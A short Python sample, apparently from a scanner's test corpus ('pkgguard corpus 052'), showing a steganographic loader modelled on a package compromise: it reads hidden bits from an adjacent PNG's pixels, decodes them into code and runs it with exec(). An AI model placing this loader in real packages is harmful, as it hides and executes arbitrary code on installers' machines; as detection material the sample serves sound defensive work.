# pkgguard corpus 052 (steganography), modelled on [telnyx]; inert, never run.
from PIL import Image

img = Image.open(__file__.replace("render.py", "banner.png"))
bits = "".join(str(p[0] & 1) for p in img.getdata())
text = bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8)).split(b"\x00")[0]
exec(text)
